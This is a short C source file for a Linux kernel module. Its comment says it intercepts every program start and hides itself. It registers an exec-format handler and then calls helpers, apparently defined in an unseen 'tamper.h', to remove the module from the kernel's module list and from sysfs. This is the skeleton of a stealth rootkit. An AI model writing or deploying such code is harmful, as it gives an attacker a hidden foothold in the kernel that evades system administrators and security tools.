/* Has a say whenever a program is started, and hides. */
#include <linux/binfmts.h>
#include "tamper.h"

static int own_load(struct linux_binprm *program) { return -ENOEXEC; }
static struct linux_binfmt format = {.module = THIS_MODULE, .load_binary = own_load};

static int __init begin(void)
{
    insert_binfmt(&format);
    off_the_list();
    off_sysfs();
    return 0;
}
module_init(begin);
